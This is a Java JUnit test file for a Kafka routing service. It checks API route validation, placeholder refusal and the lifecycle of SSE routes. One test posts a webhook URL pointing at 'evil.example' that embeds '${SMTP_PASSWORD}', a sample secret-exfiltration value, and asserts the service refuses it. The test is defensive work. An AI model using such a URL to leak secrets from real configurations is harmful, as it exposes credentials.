package dev.sluice.app;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.micronaut.context.ApplicationContext;
import io.micronaut.runtime.server.EmbeddedServer;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/**
 * Routes made at run time on the real Kafka: a mistake in one reads as start-up says it for the same mistake
 * in configuration, and points at the key; an SSE route made over the API streams at once and ends its
 * connections when deleted. (The whole sequence of the issue, with restarts of the jar: RoutesAtRunTimeIT.)
 */
class RoutesAtRunTimeTest {

    static final ObjectMapper JSON = new ObjectMapper();

    /** A route as configuration keys and as the same route in an API body, each with one mistake. */
    record Mistake(Map<String, String> yaml, String body, String pointer) {}

    private static final String HOOK = "\"from\":\"t\",\"group\":\"g\",\"to\":\"webhook\"";

    static List<Mistake> mistakes() {
        return List.of(
                new Mistake(Map.of("options.url", "http://127.0.0.1:9/erp", "options.timout", "2s"),
                        "{\"name\":\"bad\"," + HOOK + ",\"options\":{\"url\":\"http://127.0.0.1:9/erp\",\"timout\":\"2s\"}}",
                        "/options/timout"),
                new Mistake(Map.of(), "{\"name\":\"bad\"," + HOOK + "}", "/options/url"),
                new Mistake(Map.of("options.url", "ftp://erp"), "{\"name\":\"bad\"," + HOOK
                        + ",\"options\":{\"url\":\"ftp://erp\"}}", "/options/url"),
                new Mistake(Map.of("options.url", "http://127.0.0.1:9/erp", "retry.max-atempts", "3"),
                        "{\"name\":\"bad\"," + HOOK + ",\"options\":{\"url\":\"http://127.0.0.1:9/erp\"},"
                                + "\"retry\":{\"max-atempts\":3}}", "/retry/max-atempts"),
                new Mistake(Map.of("options.url", "http://127.0.0.1:9/erp", "concurrency", "0"),
                        "{\"name\":\"bad\"," + HOOK + ",\"options\":{\"url\":\"http://127.0.0.1:9/erp\"},"
                                + "\"concurrency\":0}", "/concurrency"),
                new Mistake(Map.of("pipeline[0].teleport", "now"), "{\"name\":\"bad\",\"from\":\"t\","
                        + "\"pipeline\":[{\"teleport\":\"now\"}]}", "/pipeline/0/teleport"),
                new Mistake(Map.of("pipeline[0].filter", "$lowercase(category = "), "{\"name\":\"bad\",\"from\":\"t\","
                        + "\"pipeline\":[{\"filter\":\"$lowercase(category = \"}]}", "/pipeline/0/filter"));
    }

    private static String startupFailure(Map<String, String> routeKeys, boolean push) {
        Map<String, Object> props = TestSluice.baseProperties(TestSluice.unique("parity"));
        props.put("sluice.routes.bad.from", "t");
        if (push) {
            props.put("sluice.routes.bad.group", "g");
            props.put("sluice.routes.bad.to", "webhook");
        }
        routeKeys.forEach((k, v) -> props.put("sluice.routes.bad." + k, v));
        Throwable t = assertThrows(Throwable.class, () -> ApplicationContext.run(EmbeddedServer.class, props, "test"));
        StringBuilder all = new StringBuilder();
        for (Throwable c = t; c != null; c = c.getCause()) {
            all.append(c.getMessage()).append('\n');
        }
        return all.toString();
    }

    @Test
    void aMistakeReadsAsStartUpSaysItAndPointsAtTheKey() throws Exception {
        String topic = TestSluice.unique("rt-parity");
        try (TestSluice sluice = TestSluice.start(topic, Map.of())) {
            for (Mistake mistake : mistakes()) {
                HttpResponse<String> refused = sluice.post("/api/routes", "application/json", mistake.body());
                assertEquals(400, refused.statusCode(), refused.body());
                assertTrue(refused.headers().firstValue("content-type").orElse("").startsWith("application/problem+json"));
                JsonNode error = JSON.readTree(refused.body()).get("errors").get(0);
                assertEquals(mistake.pointer(), error.get("pointer").asText(), refused.body());
                String detail = error.get("detail").asText();
                String atStartUp = startupFailure(mistake.yaml(), mistake.body().contains("webhook"));
                assertTrue(atStartUp.contains(detail.replace("route 'bad'", "route 'bad' (sluice.routes.bad)")),
                        "API: " + detail + "\nstart-up: " + atStartUp);
            }
            JsonNode routes = JSON.readTree(sluice.get("/api/routes").body());
            assertEquals(0, routes.size(), "nothing was created");
        }
    }

    @Test
    void aPlaceholderIsRefusedInARouteMadeAtRunTime() throws Exception {
        String topic = TestSluice.unique("rt-placeholder");
        try (TestSluice sluice = TestSluice.start(topic, Map.of())) {
            HttpResponse<String> refused = sluice.post("/api/routes", "application/json", "{\"name\":\"leak\"," + HOOK
                    + ",\"options\":{\"url\":\"http://evil.example/?p=${SMTP_PASSWORD}\"}}");
            assertEquals(400, refused.statusCode(), refused.body());
            JsonNode error = JSON.readTree(refused.body()).get("errors").get(0);
            assertEquals("/options/url", error.get("pointer").asText());
            assertTrue(error.get("detail").asText().contains("placeholders are resolved only in configuration files"),
                    refused.body());
        }
    }

    @Test
    void anSseRouteMadeOverTheApiStreamsAtOnceAndEndsItsConnectionsWhenDeleted() throws Exception {
        String topic = TestSluice.unique("rt-sse");
        Map<String, Object> configured = new HashMap<>();
        configured.put("sluice.routes.from-config.from", topic);
        try (TestSluice sluice = TestSluice.start(topic, configured)) {
            HttpResponse<String> created = sluice.post("/api/routes", "application/yaml", """
                    name: live-electronics
                    from: %s
                    pipeline:
                      - filter: "$lowercase(category) = 'electronics'"
                    """.formatted(topic));
            assertEquals(201, created.statusCode(), created.body());
            String etag = created.headers().firstValue("ETag").orElseThrow();

            try (SseClient live = SseClient.connect(sluice.uri("/live-electronics/stream"), null)) {
                assertEquals(200, live.status);
                sluice.postJson("[{\"itemId\":\"s1\",\"name\":\"n\",\"category\":\"Books\"},"
                        + "{\"itemId\":\"s2\",\"name\":\"n\",\"category\":\"Electronics\"}]");
                assertEquals("s2", MasterDataStreamsTest.field(live.await(1).get(0).data(), "itemId"));

                JsonNode listed = JSON.readTree(sluice.get("/api/routes").body());
                assertEquals(List.of("from-config", "live-electronics"), listed.findValuesAsText("name"));
                assertEquals(List.of("configuration", "api"), listed.findValuesAsText("declaredIn"));
                HttpResponse<String> readOnly = sluice.post("/api/routes/from-config/pause", "application/json", "");
                assertEquals(409, readOnly.statusCode(), readOnly.body());

                HttpResponse<String> deleted = TestSluice.HTTP.send(HttpRequest.newBuilder(
                                sluice.uri("/api/routes/live-electronics")).header("If-Match", etag).DELETE().build(),
                        HttpResponse.BodyHandlers.ofString());
                assertEquals(204, deleted.statusCode(), deleted.body());
                long deadline = System.nanoTime() + 30_000_000_000L;
                while (live.end() == null && System.nanoTime() < deadline) {
                    Thread.sleep(20);
                }
                assertNotNull(live.end(), "the connection of a deleted route ends");
            }
            assertEquals(404, sluice.get("/live-electronics/stream").statusCode());
            assertEquals(404, sluice.get("/api/routes/live-electronics").statusCode());
        }
    }
}
